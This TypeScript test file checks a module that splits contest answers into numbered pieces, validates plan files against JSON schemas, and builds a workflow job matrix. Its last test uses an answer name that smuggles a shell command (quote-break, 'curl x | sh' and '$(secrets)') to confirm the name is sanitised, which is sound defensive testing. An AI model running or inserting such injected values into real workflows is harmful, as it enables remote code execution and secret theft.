import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, test } from 'node:test';
import { Ajv2020 } from 'ajv/dist/2020';
import { BadInput } from '../../errors';
import { marksSchema } from '../merge/marks-schema';
import { deal, type Plan, pieceOf } from './plan';
import { planText, readPlan } from './plan-file';
import { planSchema } from './plan-schema';
import { piecesMatrix } from './workflow';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'endstate-plan-'));
});
afterEach(() => rmSync(dir, { recursive: true }));

/** `UPDATE=1` writes the published files anew; `npm run format` lays them out. */
for (const [name, schema] of Object.entries({ plan: planSchema, marks: marksSchema })) {
  test(`${name}: the published schema is the one that files are read with, and one of its own dialect`, () => {
    const file = join(__dirname, '../../../docs/schemas', `${name}.schema.json`);
    if (process.env.UPDATE) writeFileSync(file, JSON.stringify(schema));
    assert.deepEqual(JSON.parse(readFileSync(file, 'utf8')), JSON.parse(JSON.stringify(schema)));
    assert.equal(new Ajv2020().validateSchema(schema), true);
  });
}

const answer = (name: string) => ({ name, path: `answers/${name}`, hash: 'a'.repeat(64) });
const answers = ['team03', 'team01', 'team05', 'team02', 'team04'].map(answer);
const planOf = (pieces: Plan['pieces']): Plan => ({ problem: 'p', problemHash: 'b'.repeat(64), tags: '', pieces });
const names = (pieces: Plan['pieces']) => pieces.map((piece) => piece.answers.map(({ name }) => name));

test('a piece an answer, by name', () => {
  assert.deepEqual(names(deal(answers)), [['team01'], ['team02'], ['team03'], ['team04'], ['team05']]);
});

test('so many pieces, none much larger than another, whatever the order was', () => {
  const dealt = [
    ['team01', 'team03', 'team05'],
    ['team02', 'team04'],
  ];
  assert.deepEqual(names(deal(answers, 2)), dealt);
  assert.equal(planText(planOf(deal(answers, 2))), planText(planOf(deal(answers.toReversed(), 2))));
});

test('a piece without an answer, and one that is not there, are refused', () => {
  assert.throws(() => deal(answers, 6), BadInput);
  assert.throws(() => pieceOf(planOf(deal(answers)), 5), /pieces are 0 to 4/);
});

test('a plan is read as it was written', () => {
  const plan = planOf(deal([...answers, { name: 'unread', path: 'answers/unread', hash: '' }], 3));
  writeFileSync(join(dir, 'plan.json'), planText(plan));
  assert.deepEqual(readPlan(join(dir, 'plan.json')), plan);
});

const written = () => JSON.parse(planText(planOf(deal(answers, 2))));
const refused: readonly [string, (plan: ReturnType<typeof written>) => void, RegExp][] = [
  ['a key that nobody knows', (plan) => (plan.piece = []), /unknown key "piece"; did you mean "pieces"/],
  ['another format', (plan) => (plan.format = 2), /format must be equal to constant/],
  ['no piece', (plan) => (plan.pieces = []), /must NOT have fewer than 1 items/],
  ['a piece without an answer', (plan) => (plan.pieces[1].answers = []), /answers must NOT have fewer/],
  ['a hash that is none', (plan) => (plan.problemHash = 'x'), /problemHash must match pattern/],
  ['pieces out of order', (plan) => plan.pieces.reverse(), /not numbered 0, 1, 2/],
  ['an answer twice', (plan) => plan.pieces[1].answers.push(plan.pieces[0].answers[0]), /the answer team01 twice/],
];

for (const [what, change, words] of refused) {
  test(`refused: ${what}`, () => {
    const plan = written();
    change(plan);
    const path = join(dir, 'plan.json');
    writeFileSync(path, JSON.stringify(plan));
    assert.throws(
      () => readPlan(path),
      (error) => error instanceof BadInput && words.test(error.message),
    );
  });
}

test('refused: what is cut off, and what is not there', () => {
  writeFileSync(join(dir, 'plan.json'), planText(planOf(deal(answers))).slice(0, 100));
  assert.throws(() => readPlan(join(dir, 'plan.json')), BadInput);
  assert.throws(() => readPlan(join(dir, 'none.json')), BadInput);
});

test('a workflow has a job a piece, 256 at most, and none of its text is a stranger’s', () => {
  const many = Array.from({ length: 257 }, (_, i) => answer(`team${i}`));
  assert.throws(() => piecesMatrix(planOf(deal(many))), /--pieces 256/);
  assert.equal(piecesMatrix(planOf(deal(many, 256))).include.length, 256);
  const [first] = piecesMatrix(planOf(deal([answer('a"; curl x | sh $(secrets)'), answer('b')], 1))).include;
  assert.deepEqual(first, { piece: 0, name: 'a-curl-x-sh-secrets and 1 more' });
});
